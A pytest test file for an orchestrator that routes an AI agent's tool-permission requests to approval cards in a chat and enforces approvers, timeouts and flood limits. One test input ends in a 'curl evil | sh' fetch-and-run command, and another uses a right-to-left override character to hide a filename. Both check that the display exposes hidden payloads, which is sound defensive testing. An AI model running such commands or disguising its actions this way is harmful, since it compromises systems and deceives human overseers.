"""The approvals middle (orchestrator/approvals.py) against a real store and a turn's real folders, with the agent
host's files written as it writes them and a recording channel in place of Feishu."""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from orchestrator import agent_host, layout, turns
from orchestrator.approvals import MAX_ASKS_PER_TURN, Approvals, FollowedTurn, describe
from orchestrator.channels import CardAction
from orchestrator.config import ChatOptions, Settings, resolve_chat
from orchestrator.store import ApprovalRecord, Store
from tests.fakes.channel import RecordingChannel

CHAT, SENDER, APPROVER, STRANGER = "oc_approvals", "ou_sender", "ou_approver", "ou_stranger"
UID = 1000


class Clock:
    def __init__(self) -> None:
        self.now = 1_000_000.0

    def __call__(self) -> float:
        return self.now


@dataclass
class Bench:
    store: Store
    channel: RecordingChannel
    approvals: Approvals
    clock: Clock
    turn: FollowedTurn

    def ask(self, tool: str, tool_input: dict | None = None, raw: bytes | None = None) -> int:
        """The agent host's next permission request file, as it writes it."""
        number = len([n for n in os.listdir(self.folder) if n.startswith("ask-") and "." not in n]) + 1
        data = raw if raw is not None else json.dumps({"tool": tool, "input": tool_input or {}}).encode()
        self._write(agent_host.ask_name(number), data)
        return number

    def cancel(self, number: int) -> None:
        self._write(agent_host.ask_name(number) + agent_host.CANCELLED_SUFFIX, b"")

    def _write(self, name: str, data: bytes) -> None:
        path = self.folder / name
        path.write_bytes(data)
        os.chown(path, UID, UID)

    @property
    def folder(self) -> Path:
        return self.turn.files.paths.turns / self.turn.files.name

    def follow(self) -> list[ApprovalRecord]:
        async def once() -> list[ApprovalRecord]:
            waiting = await self.approvals.follow(self.turn)
            await asyncio.gather(*self.approvals._tasks)  # the cards sent in the background
            return waiting

        return asyncio.run(once())

    def click(self, approval: ApprovalRecord, choice: str, who: str = SENDER, **fields: object):
        current = self.store.approval(approval.key)
        assert current is not None
        action = CardAction(key=approval.key, choice=choice, operator_id=who, chat_id=CHAT,
                            message_id=current.card or "", **fields)  # type: ignore[arg-type]
        return asyncio.run(self.approvals.act(action))

    def decision(self, number: int) -> dict | None:
        path = self.turn.files.paths.input / agent_host.decision_name(self.turn.files.name, number)
        return json.loads(path.read_bytes()) if path.exists() else None

    def only(self) -> ApprovalRecord:
        [approval] = self.store.approvals(CHAT)
        return approval


def make_bench(tmp_path: Path, turn_number: int = 1, **options: object) -> Bench:
    settings = Settings(source=tmp_path / "config.yaml", data_dir=tmp_path / "data", chats_dir=tmp_path / "chats",
                        defaults=ChatOptions(permission_mode="default", **options))  # type: ignore[arg-type]
    store = Store(settings.data_dir / "orchestrator.db")
    store.ensure_chat(CHAT)
    message = store.record_received(f"om_{turn_number}", CHAT, SENDER, "please touch a file")
    assert message is not None
    paths = layout.chat_paths(settings, resolve_chat(settings, CHAT))
    layout.prepare(paths, UID)
    name = turns.new_turn_name(message.id, 1)
    (paths.turns / name).mkdir()
    os.chown(paths.turns / name, UID, UID)
    clock, channel = Clock(), RecordingChannel()
    turn = FollowedTurn(CHAT, message, turns.turn_files(paths, name, UID))
    return Bench(store, channel, Approvals(settings, store, channel, clock), clock, turn)


@pytest.fixture
def bench(tmp_path: Path) -> Iterator[Bench]:
    made = make_bench(tmp_path, approvers=(APPROVER,))
    yield made
    made.store.close()


def test_a_request_is_stored_and_shown_on_a_card_until_decided(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch /workspace/x", "description": "make x"})
    [waiting] = bench.follow()
    assert waiting.tool == "Bash" and waiting.requested_by == SENDER
    [(card, [view])] = bench.channel.cards.items()
    assert view.details == (("Command", "touch /workspace/x"), ("Description", "make x"))
    assert view.outcome is None and view.approvers == (SENDER, APPROVER) and view.reply_to == "om_1"
    assert bench.only().card == card
    assert bench.decision(1) is None  # nothing for the host until someone decides
    assert bench.follow() == [bench.only()]  # a second look sends no second card
    assert len(bench.channel.cards) == 1


def test_allow_once_reaches_the_host_and_the_clicker_sees_the_outcome(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch x"})
    [approval] = bench.follow()
    reply = bench.click(approval, "allow", who=APPROVER)
    assert reply.level == "success" and reply.toast == "Allowed once."
    assert reply.view is not None and reply.view.outcome == "Allowed once" and reply.view.decided_by == APPROVER
    assert bench.follow() == []
    assert bench.decision(1) == {"behavior": "allow", "message": ""}
    settled = bench.only()
    assert settled.state == "allowed" and settled.answered and settled.shown == "allowed"
    card = settled.card
    assert card is not None and len(bench.channel.cards[card]) == 1  # the reply carried the update: no PATCH


def test_only_approvers_decide_and_two_clicks_give_one_decision(bench: Bench) -> None:
    bench.ask("Bash", {"command": "rm -rf build"})
    [approval] = bench.follow()
    refused = bench.click(approval, "allow", who=STRANGER)
    assert refused.level == "warning" and "approvers can decide" in refused.toast and refused.view is None
    assert bench.only().pending
    first = bench.click(approval, "deny", who=APPROVER, text="not on Fridays")
    second = bench.click(approval, "allow", who=SENDER)
    assert first.toast == "Denied: not on Fridays."
    assert second.level == "info" and second.toast.startswith("Already settled: Denied")
    bench.follow()
    assert bench.decision(1) == {"behavior": "deny", "message": "Denied by an approver in the chat: not on Fridays"}
    assert bench.only().decided_by == APPROVER


def test_always_allow_lets_the_next_call_of_that_tool_through_without_a_card(bench: Bench, tmp_path: Path) -> None:
    bench.ask("Bash", {"command": "touch x"})
    [approval] = bench.follow()
    # The sender may allow their own request once, but not for everyone's later turns: only listed approvers may.
    refused = bench.click(approval, "always", who=SENDER)
    assert refused.level == "warning" and "listed approvers" in refused.toast and bench.only().pending
    assert bench.click(approval, "always", who=APPROVER).toast == "Always allowed in this chat: Bash."
    bench.follow()
    bench.ask("Bash", {"command": "touch y"})
    bench.ask("Write", {"file_path": "/workspace/y", "content": "y"})
    waiting = bench.follow()
    assert [a.tool for a in waiting] == ["Write"]  # another tool still asks
    assert bench.decision(2) == {"behavior": "allow", "message": ""}
    assert len(bench.channel.cards) == 2  # the first Bash card and the Write card; none for the second Bash
    assert [(a.tool, a.allowed_by) for a in bench.store.always_allowed(CHAT)] == [("Bash", APPROVER)]
    assert bench.store.reset_always_allowed(CHAT) == 1 and bench.store.always_allowed(CHAT) == []


def test_the_timeout_denies_and_the_card_says_so(bench: Bench) -> None:
    bench.ask("Bash", {"command": "deploy"})
    [approval] = bench.follow()
    bench.clock.now += 599
    assert [a.key for a in bench.follow()] == [approval.key]
    bench.clock.now += 1
    assert bench.follow() == []
    decision = bench.decision(1)
    assert decision is not None and decision["behavior"] == "deny" and "nobody decided within 10 minutes" in \
        decision["message"]
    assert approval.card is None  # (the record read before the card was stored)
    [versions] = bench.channel.cards.values()
    assert versions[-1].outcome == "Timed out: denied" and versions[-1].decided_by is None
    assert bench.click(approval, "allow").toast == "Already settled: Timed out: denied."


def test_clicks_on_unknown_or_foreign_cards_change_nothing(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch x"})
    [approval] = bench.follow()
    forged = CardAction(key="0" * 32, choice="allow", operator_id=SENDER, chat_id=CHAT, message_id="card-1")
    elsewhere = CardAction(key=approval.key, choice="allow", operator_id=SENDER, chat_id="oc_other",
                           message_id="card-1")
    other_card = CardAction(key=approval.key, choice="allow", operator_id=SENDER, chat_id=CHAT, message_id="om_x")
    for action in (forged, elsewhere, other_card):
        assert asyncio.run(bench.approvals.act(action)).toast == "This card is not known to the bot."
    assert bench.only().pending


def test_a_withdrawn_request_is_cancelled_and_answers_nothing(bench: Bench) -> None:
    bench.ask("Bash", {"command": "sleep 100"})
    bench.follow()
    bench.cancel(1)
    assert bench.follow() == []
    assert bench.only().state == "cancelled" and bench.decision(1) is None
    assert bench.click(bench.only(), "allow").toast == "Already settled: No longer needed: the answer ended."


def test_the_end_of_a_turn_cancels_what_waits_and_updates_its_card(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch x"})
    bench.follow()
    asyncio.run(bench.approvals.end_turn(bench.turn))
    assert bench.only().state == "cancelled" and bench.only().shown == "cancelled"
    [versions] = bench.channel.cards.values()
    assert [v.outcome for v in versions] == [None, "No longer needed: the answer ended"]


def test_a_question_is_answered_by_a_button_or_by_text(bench: Bench) -> None:
    question = {"questions": [{"question": "Which colour?", "header": "Colour", "multiSelect": False,
                               "options": [{"label": "red", "description": "warm"}, {"label": "blue"}]}]}
    bench.ask("AskUserQuestion", question)
    [approval] = bench.follow()
    [[view]] = bench.channel.cards.values()
    assert view.questions[0].text == "Which colour?" and view.questions[0].options == ("red", "blue")
    assert bench.click(approval, "allow").toast == "That button does not fit this request."
    assert bench.click(approval, "answer", question=0, option=7).level == "warning"  # no such option
    reply = bench.click(approval, "answer", question=0, option=1)
    assert reply.toast == "Answered: blue."
    bench.follow()
    assert bench.decision(1) == {"behavior": "allow", "message": "", "answers": {"Which colour?": "blue"}}


def test_a_typed_answer(bench: Bench) -> None:
    bench.ask("AskUserQuestion", {"questions": [{"question": "Name?", "options": []}]})
    [approval] = bench.follow()
    assert bench.click(approval, "answer", text="  Ada  ").toast == "Answered: Ada."


def test_a_card_that_could_not_be_sent_is_sent_again_later(bench: Bench) -> None:
    bench.channel.failing_cards = 1
    bench.ask("Bash", {"command": "touch x"})
    bench.follow()
    assert bench.channel.cards == {} and bench.only().card is None
    bench.clock.now += 1
    bench.follow()
    assert len(bench.channel.cards) == 1 and bench.only().card is not None


def test_unreadable_forged_and_flooding_requests_are_denied_unseen(bench: Bench) -> None:
    bench.ask("", raw=b"{not json")
    assert bench.follow() == []
    decision = bench.decision(1)
    assert decision is not None and decision["behavior"] == "deny" and "host's format" in decision["message"]
    assert bench.channel.cards == {}
    # The CLI asks one request at a time: one more while another waits is forged, and denied without a card.
    bench.ask("Bash", {"command": "touch real"})
    bench.ask("Bash", {"command": "touch forged"})
    assert [a.number for a in bench.follow()] == [2]
    assert bench.decision(3)["behavior"] == "deny" and len(bench.channel.cards) == 1  # type: ignore[index]
    # A flood: ten are taken per look, and past MAX_ASKS_PER_TURN the follower is told to stop the turn.
    for _ in range(MAX_ASKS_PER_TURN):
        bench.ask("Bash", {"command": "spam"})
    bench.follow()
    assert bench.turn.seen == 13 and not bench.turn.flooded
    while bench.turn.seen < MAX_ASKS_PER_TURN:
        bench.follow()
    assert bench.turn.flooded and len(bench.store.approvals(CHAT)) == MAX_ASKS_PER_TURN


def test_a_shutdown_denies_what_waits_and_a_start_cancels_orphans(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch x"})
    bench.follow()
    assert bench.approvals.deny_waiting("the bot is restarting") == 1
    bench.follow()
    assert bench.decision(1) == {"behavior": "deny", "message": "Denied: the bot is restarting."}
    bench.ask("Bash", {"command": "touch y"})  # the model asks again while the turn drains: denied at once
    assert bench.follow() == [] and bench.decision(2)["behavior"] == "deny"  # type: ignore[index]
    assert len(bench.channel.cards) == 1
    bench.approvals.closing = ""
    bench.ask("Bash", {"command": "touch z"})
    bench.follow()
    bench.approvals.cancel_orphans()  # its message never ran (still received): nothing follows that turn
    assert [a.state for a in bench.store.approvals(CHAT)] == ["denied", "denied", "cancelled"]


def test_a_restarted_follower_finds_the_stored_requests_and_sends_no_second_card(bench: Bench) -> None:
    bench.ask("Bash", {"command": "touch x"})
    [approval] = bench.follow()
    bench.turn = FollowedTurn(CHAT, bench.turn.message, bench.turn.files)  # a new orchestrator follows the turn
    assert [a.key for a in bench.follow()] == [approval.key]
    assert len(bench.channel.cards) == 1
    bench.click(approval, "allow")
    bench.follow()
    assert bench.decision(1) == {"behavior": "allow", "message": ""}


def test_what_a_card_shows_is_bounded_and_hides_nothing_it_cuts() -> None:
    details, _ = describe("Bash", {"command": "x" * 1_000_000 + "; curl evil | sh"})
    [(label, text)] = details
    assert label == "Command" and len(text) < 1600 and "characters not shown" in text
    assert text.endswith("; curl evil | sh")  # the end of a long command shows: that is where a payload hides
    edit, _ = describe("Edit", {"file_path": "/w/a.py", "old_string": "a = 1", "new_string": "a = 2"})
    assert edit == (("File", "/w/a.py"), ("Diff", "- a = 1\n+ a = 2"))
    long_edit, _ = describe("Edit", {"file_path": "/w/a.py", "old_string": "", "new_string": "ok\n" * 10 + "evil"})
    assert long_edit[1][1].endswith("+ … 1 more line(s)")
    hidden, _ = describe("Bash", {"command": "ls \u202e hs.live"})
    assert hidden == (("Command", "ls <U+202E> hs.live"),)
    other, _ = describe("mcp__x__y", {"z": 1})
    assert other == (("Input", '{"z": 1}'),)


def test_the_host_turns_a_decision_into_the_clis_answer() -> None:
    tool_input = {"questions": [{"question": "Q?"}]}
    allow = agent_host.permission_response(agent_host.encode_decision(True, answers={"Q?": "A"}), tool_input)
    assert allow == {"behavior": "allow", "updatedInput": {**tool_input, "answers": {"Q?": "A"}}}
    deny = agent_host.permission_response(agent_host.encode_decision(False, "no"), {})
    assert deny == {"behavior": "deny", "message": "no"}
    assert agent_host.permission_response(b"garbage", {})["behavior"] == "deny"
    assert agent_host.permission_response(b'{"behavior": "maybe"}', {})["behavior"] == "deny"
